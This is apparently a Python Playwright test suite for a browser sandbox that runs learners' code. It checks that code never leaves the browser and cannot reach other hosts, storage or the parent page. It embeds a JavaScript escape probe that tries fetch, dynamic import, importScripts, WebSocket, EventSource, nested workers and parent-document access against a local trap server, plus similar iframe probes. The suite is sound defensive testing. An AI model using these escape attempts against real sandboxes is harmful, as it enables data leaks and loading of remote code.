"""The sandbox of a learner's code: it reaches nothing, and the code is sent nowhere."""

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request, expect

from core.lessons.exercises import EXERCISES
from tests.browser.exercises import ExercisePage
from tests.browser.harness import Server, Watch, settled

CSP = r"Content Security Policy|Failed to load resource|Worker script|Access to fetch|request failed: GET \S+: csp"


@pytest.fixture
def lesson(watched: tuple[Page, Watch], server: Server) -> ExercisePage:
    return ExercisePage(*watched, server)


@pytest.fixture
def trap() -> Iterator[tuple[str, list[str]]]:
    """Another host that answers every request: its URL, and the requested paths."""
    requested: list[str] = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requested.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    host = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    threading.Thread(target=host.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{host.server_port}", requested
    host.shutdown()
    host.server_close()


def test_code_stays_in_the_browser_and_no_other_host_is_requested(lesson: ExercisePage) -> None:
    secret = "zanzibar_4711"
    sent: list[bytes] = []
    hosts: set[str] = set()

    def frame(payload: str | bytes) -> None:
        sent.append(payload.encode() if isinstance(payload, str) else payload)

    lesson.page.on("websocket", lambda socket: socket.on("framesent", frame))

    def requested(request: Request) -> None:
        hosts.add(urlsplit(request.url).netloc)
        sent.append(request.url.encode() + (request.post_data_buffer or b""))

    lesson.page.context.on("request", requested)
    lesson.open()
    lesson.run(f"{secret} = 1\nprint('{secret}')\n")
    expect(lesson.output).to_have_text(secret)
    lesson.run(f"{secret} = 1\n{EXERCISES['wcd'].solution}")
    lesson.button(re.compile("^Next")).click()
    settled(lesson.page)
    lesson.page.context.remove_listener("request", requested)
    assert hosts - {"", "null"} == {urlsplit(lesson.server.url).netloc}
    assert any(b"bcd" in message for message in sent)  # control: sent messages are captured
    assert not any(secret.encode() in message for message in sent)


HOSTILE = """
from browser import self as worker
worker.eval('''
const say = (name, how) => tell_all("output", name + ": " + how + "\\\\n");
const tell_all = tell;
globalThis.tell = () => {};  // the end of the run is not reported: it runs until it is stopped
const attempt = async (name, action) => {
  try { await action(); say(name, "DONE"); } catch (error) { say(name, "refused"); }
};
const address = "ADDRESS";
attempt("fetch", () => fetch(address, { mode: "no-cors" }));
attempt("original fetch", () => WorkerGlobalScope.prototype.fetch.call(self, address, { mode: "no-cors" }));
attempt("import", () => import(address));
attempt("importScripts", () => importScripts(address));
attempt("socket", () => new Promise((resolve, reject) => {
  const socket = new WebSocket(address.replace("http", "ws"));
  socket.onopen = resolve; socket.onerror = reject; socket.onclose = reject;
}));
attempt("events", () => new Promise((resolve, reject) => {
  const source = new EventSource(address);
  source.onopen = resolve; source.onerror = reject;
}));
attempt("worker", () => new Promise((resolve, reject) => {
  const code = "fetch('" + address + "', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";
  const inner = new Worker(URL.createObjectURL(new Blob([code])));
  inner.onmessage = ({ data }) => (data ? resolve() : reject());
  inner.onerror = reject;
}));
attempt("storage", () => localStorage.length);
attempt("database", () => new Promise((resolve, reject) => {
  const request = indexedDB.open("x"); request.onsuccess = resolve; request.onerror = reject;
}));
attempt("caches", () => caches.open("x"));
attempt("page", () => parent.document);
''')
"""
ATTEMPTS = 11


def test_hostile_code_reaches_neither_the_app_nor_another_host(
    lesson: ExercisePage, watched: tuple[Page, Watch], trap: tuple[str, list[str]]
) -> None:
    page, watch = watched
    other, requested = trap
    watch.expect(CSP)
    watch.expect("/control")
    lesson.open()
    page.evaluate("address => fetch(address)", f"{other}/control")
    assert requested == ["/control"]  # the trap works
    for address in (f"{lesson.server.url}/_stcore/health", f"{other}/requested"):
        verdict = lesson.run(HOSTILE.replace("ADDRESS", address))
        assert verdict.startswith("Stopped after 3 seconds.")
        lines = lesson.output.inner_text().splitlines()
        assert sorted(lines) == sorted(set(lines)) and len(lines) == ATTEMPTS
        assert [line for line in lines if not line.endswith(": refused")] == []
    assert requested == ["/control"]
    assert lesson.run(EXERCISES["wcd"].solution).startswith("Solved")


def test_the_frame_has_no_origin_and_no_way_out(
    lesson: ExercisePage, watched: tuple[Page, Watch], trap: tuple[str, list[str]]
) -> None:
    page, watch = watched
    watch.expect(CSP)
    watch.expect("Blocked a frame|sandboxed|SecurityError")
    lesson.open()
    page.locator(".cl-editor").evaluate("root => root.contrastiveEditor.ready()")
    (frame,) = [frame for frame in page.frames if frame.url == "about:srcdoc"]
    tries = {
        "the page's document": "() => parent.document.title",
        "the page's storage": "() => parent.localStorage.length",
        "its own storage": "() => localStorage.length",
        "cookies": "() => document.cookie",
        "another window": "() => { if (!open('about:blank')) throw new Error('no window') }",
        "a request": f"() => fetch('{trap[0]}/frame', {{ mode: 'no-cors' }})",
    }
    assert frame.evaluate("() => self.origin") == "null"
    for name, action in tries.items():
        refused = frame.evaluate(
            "async action => { try { await eval(action)(); return false } catch { return true } }", action
        )
        assert refused, name
    assert trap[1] == []
